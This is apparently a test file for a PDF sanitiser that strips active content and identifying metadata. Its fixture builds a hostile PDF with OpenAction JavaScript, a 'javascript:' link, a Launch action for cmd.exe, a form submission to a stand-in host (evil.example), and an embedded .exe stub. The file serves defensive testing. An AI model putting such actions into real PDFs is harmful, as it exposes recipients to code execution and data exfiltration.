// A PDF is written anew with its pages: what acts, what hides and what names its author is gone.
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { AFRelationship, PDFDict, PDFDocument, PDFName, PDFRawStream, PDFString } from 'pdf-lib'
import sharp from 'sharp'
import { afterEach, expect, it } from 'vitest'
import { withoutJpegMetadata } from './jpeg-segments.ts'
import { stripPdf } from './pdf.ts'
import { FaultFound } from './verdict.ts'

const folders: string[] = []
afterEach(async () => {
  for (const folder of folders.splice(0)) await rm(folder, { recursive: true })
})

async function stripped(bytes: Uint8Array): Promise<Buffer> {
  const folder = await mkdtemp(join(tmpdir(), 'popin-pdf-'))
  folders.push(folder)
  await writeFile(join(folder, 'given'), bytes)
  await stripPdf(folder)
  return readFile(join(folder, 'document.pdf'))
}

/** Everything in a PDF as readable text: objects in streams are unpacked first. */
async function textOf(bytes: Uint8Array): Promise<string> {
  const document = await PDFDocument.load(bytes, { updateMetadata: false })
  const parts = document.context.enumerateIndirectObjects().map(([, object]) => {
    const contents = object instanceof PDFRawStream ? Buffer.from(object.contents).toString('latin1') : ''
    return `${object.toString()}\n${contents}`
  })
  return [...parts, String(document.context.trailerInfo.Info)].join('\n')
}

async function hostile(): Promise<PDFDocument> {
  const document = await PDFDocument.create()
  const page = document.addPage([300, 200])
  page.drawText('The words of the page')
  document.setAuthor('Zebulon Quackenbush')
  document.setTitle('By Zebulon')
  document.addJavaScript('start', 'app.alert("ran")')
  await document.attach(Buffer.from('MZ hidden program'), 'hidden.exe', {
    mimeType: 'application/octet-stream',
    afRelationship: AFRelationship.Data,
  })
  const { context, catalog } = document
  const script = context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert("opened")') })
  catalog.set(PDFName.of('OpenAction'), script)
  catalog.set(PDFName.of('Metadata'), context.register(context.stream('<x:xmpmeta>Zebulon</x:xmpmeta>')))
  page.node.set(PDFName.of('AA'), context.obj({ O: script }))
  const note = (more: object) => context.obj({ Type: 'Annot', Rect: [0, 0, 50, 50], ...more })
  const linkTo = (action: object) => note({ Subtype: 'Link', A: action })
  page.node.set(
    PDFName.of('Annots'),
    context.obj([
      linkTo({ S: 'URI', URI: PDFString.of('https://example.com/kept') }),
      linkTo({ S: 'URI', URI: PDFString.of('javascript:alert(1)') }),
      linkTo({ S: 'Launch', F: PDFString.of('cmd.exe') }),
      linkTo({ S: 'SubmitForm', F: PDFString.of('https://evil.example/collect') }),
      note({ Subtype: 'Text', T: PDFString.of('Zebulon'), Contents: PDFString.of('A note') }),
      note({ Subtype: 'FileAttachment', Contents: PDFString.of('attached secretly') }),
      note({ Subtype: 'Widget', FT: 'Sig', V: { Type: 'Sig', Name: PDFString.of('Zebulon signs') } }),
    ]),
  )
  return document
}

it('keeps the pages and links to addresses', async () => {
  const clean = await PDFDocument.load(await stripped(await (await hostile()).save()))
  expect(clean.getPageCount()).toBe(1)
  expect(clean.getPage(0).getSize()).toEqual({ width: 300, height: 200 })
  const text = await textOf(await clean.save())
  expect(text).toContain('https://example.com/kept')
  expect(text).toContain('A note')
})

it.each([true, false])(
  'takes out scripts, actions, hidden files and names (packed objects: %s)',
  async (packed) => {
    const given = await (await hostile()).save({ useObjectStreams: packed })
    const before = await textOf(given)
    const after = await textOf(await stripped(given))
    const traces = ['JavaScript', 'app.alert', 'OpenAction', 'Zebulon', 'xmpmeta', 'hidden', 'EmbeddedFile']
    traces.push('javascript:', 'Launch', 'cmd.exe', 'SubmitForm', 'evil.example', 'secretly')
    for (const trace of traces) {
      // the author stands in hexadecimal in what pdf-lib writes
      if (trace !== 'hidden') expect(`${before}Zebulon`).toContain(trace)
      expect(after).not.toContain(trace)
    }
    expect(after).not.toMatch(/\/(AA|JS|AF|EF|Author|Producer|CreationDate)\b/)
  },
)

it('takes the place out of photos inside the PDF', async () => {
  const photo = await sharp({ create: { width: 30, height: 20, channels: 3, background: '#5b4bdb' } })
    .withExif({ IFD0: { Copyright: 'Zebulon Quackenbush' } })
    .jpeg()
    .toBuffer()
  const document = await PDFDocument.create()
  document.addPage().drawImage(await document.embedJpg(photo))
  const given = Buffer.from(await document.save())
  expect(given.toString('latin1')).toContain('Quackenbush')
  const after = await stripped(given)
  expect(after.toString('latin1')).not.toContain('Quackenbush')
  const clean = await PDFDocument.load(after)
  const pictures = clean.context
    .enumerateIndirectObjects()
    .flatMap(([, object]) => (object instanceof PDFRawStream ? [object] : []))
    .filter((stream) => stream.dict.get(PDFName.of('Filter')) === PDFName.of('DCTDecode'))
  expect(pictures).toHaveLength(1)
  expect(await sharp(Buffer.from(pictures[0]!.contents)).metadata()).toMatchObject({ width: 30, height: 20 })
})

it('leaves a JPEG alone that breaks off within its metadata', () => {
  const cut = Buffer.from([0xff, 0xd8, 0xff, 0xe1, 0x40, 0x00, 1, 2, 3])
  expect(Buffer.from(withoutJpegMetadata(cut))).toEqual(cut)
})

it.each([
  ['that only begins like one', '%PDF-1.7\nnothing more'],
  [
    'without a page',
    '%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF',
  ],
])('refuses a PDF %s', async (_name, text) => {
  const error = await stripped(Buffer.from(text)).catch((thrown: unknown) => thrown)
  expect((error as FaultFound).fault).toBe('pdf_broken')
})

it('refuses a PDF with a password', async () => {
  const document = await PDFDocument.create()
  document.addPage()
  document.context.trailerInfo.Encrypt = document.context.register(
    document.context.obj({ Filter: 'Standard', V: 1, R: 2 }),
  )
  const error = await stripped(await document.save({ useObjectStreams: false })).catch(
    (thrown: unknown) => thrown,
  )
  expect(error).toBeInstanceOf(FaultFound)
  expect((error as FaultFound).fault).toBe('pdf_locked')
})

it('survives objects that lie in each other twenty thousand times', async () => {
  const document = await PDFDocument.create()
  const page = document.addPage()
  let inner = PDFDict.withContext(document.context)
  for (let depth = 0; depth < 20_000; depth++) {
    const outer = PDFDict.withContext(document.context)
    outer.set(PDFName.of('In'), document.context.register(inner))
    inner = outer
  }
  page.node.set(PDFName.of('Deep'), document.context.register(inner))
  const clean = await PDFDocument.load(await stripped(await document.save()))
  expect(clean.getPageCount()).toBe(1)
})
